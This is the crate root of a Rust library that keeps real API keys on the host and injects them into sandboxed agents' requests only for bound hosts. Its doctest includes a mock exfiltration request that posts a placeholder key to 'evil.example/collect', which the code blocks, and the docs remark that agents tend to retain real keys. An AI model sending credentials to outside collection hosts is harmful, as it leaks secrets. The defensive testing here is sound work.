//! Host-side credential store, provider catalog and placeholder injection for sbx sandboxes.
//!
//! An agent given a real API key tends to keep it. So real values stay on the host: a sandbox
//! only ever holds placeholders (`sbx-ph-anthropic-<random>`), and the host proxy puts the real
//! value into a request only when that request goes to a host the secret is bound to.
//!
//! * [`SecretStore`] keeps secrets: OS keychain ([`store::keychain`], feature `keychain`), an
//!   age-encrypted file ([`FileStore`]: key file or passphrase), or memory ([`MemoryStore`]).
//!   [`open_default`] picks one and reports which and why ([`BackendReport`]).
//! * [`Catalog`] says, per provider, which env vars the agent reads, which hosts the secret is
//!   bound to and how it is applied ([`Apply`]). Built in, extensible by a user TOML file.
//! * [`SandboxCredentials`] makes per-sandbox placeholders and injects real values
//!   ([`inject`](SandboxCredentials::inject), [`inject_body`](SandboxCredentials::inject_body)),
//!   and re-signs AWS SigV4 requests ([`resign_sigv4`](SandboxCredentials::resign_sigv4)).
//!
//! ```
//! use sbx_secrets::{Catalog, Destination, FileStore, Protection, SandboxCredentials, SecretKey, SecretStore};
//!
//! # fn main() -> Result<(), Box<dyn std::error::Error>> {
//! let dir = tempfile::tempdir()?;
//! let store = FileStore::open(dir.path(), Protection::KeyFile)?;
//! store.set(&SecretKey::global("anthropic")?, &"sk-ant-real".into())?;
//!
//! // Creating a sandbox: placeholders go into its environment.
//! let creds = SandboxCredentials::new("dev", &Catalog::builtin(), store.effective_for("dev")?)?;
//! let env = creds.placeholders_env();
//! let (_, placeholder) = env.iter().find(|(k, _)| k == "ANTHROPIC_API_KEY").unwrap();
//! assert!(placeholder.starts_with("sbx-ph-anthropic-"));
//!
//! // In the proxy: the request to api.anthropic.com gets the real key...
//! let (mut head, ()) = http::Request::post("/v1/messages")
//!     .header("host", "api.anthropic.com")
//!     .header("x-api-key", placeholder.as_str())
//!     .body(())?
//!     .into_parts();
//! let dest = Destination { connect_host: Some("api.anthropic.com:443"), sni: Some("api.anthropic.com"), authority: None };
//! let report = creds.inject(&dest, &mut head);
//! assert_eq!(head.headers["x-api-key"], "sk-ant-real");
//! assert_eq!(report.injected, [("anthropic".to_string(), "api.anthropic.com".to_string())]);
//!
//! // ...and the same placeholder headed anywhere else is left alone and reported.
//! let (mut head, ()) = http::Request::post("/collect")
//!     .header("host", "evil.example")
//!     .header("x-api-key", placeholder.as_str())
//!     .body(())?
//!     .into_parts();
//! let report = creds.inject(&Destination { sni: Some("evil.example"), ..Default::default() }, &mut head);
//! assert_eq!(head.headers["x-api-key"], placeholder.as_str());
//! assert_eq!(report.blocked, [("anthropic".to_string(), "evil.example".to_string())]);
//! # Ok(()) }
//! ```
#![forbid(unsafe_code)]
#![deny(missing_docs)]
#![cfg_attr(not(test), deny(clippy::unwrap_used))]

mod aws;
pub mod catalog;
pub mod error;
pub mod host;
pub mod import;
mod inject;
pub mod placeholder;
pub mod sigv4;
pub mod store;
mod value;

pub use aws::Sigv4Outcome;
pub use catalog::{Apply, Catalog, Provider};
pub use error::{CatalogError, CredentialsError, KeyError, Sigv4Error, StoreError};
pub use host::{Destination, HostPattern};
pub use inject::{InjectionReport, SandboxCredentials};
pub use store::{
    BackendKind, BackendReport, FileStore, MemoryStore, OpenOptions, Preference, Protection,
    SecretStore, open, open_default,
};
pub use value::{Scope, SecretKey, SecretValue};

/// The README's example is compiled and run as a doctest.
#[cfg(doctest)]
#[doc = include_str!("../README.md")]
struct ReadmeDoctests;
